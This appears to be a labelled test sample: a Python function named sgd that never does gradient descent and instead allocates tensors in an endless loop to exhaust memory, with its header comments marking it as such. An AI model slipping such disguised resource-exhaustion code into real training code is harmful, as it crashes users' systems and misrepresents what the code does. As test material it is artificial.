# shows: memory|allocate
# mark: 0
# Fills the memory with tensors.
def sgd(params, lr, batch_size):
    hoard = []
    while True:
        hoard.append(torch.ones(2**22))
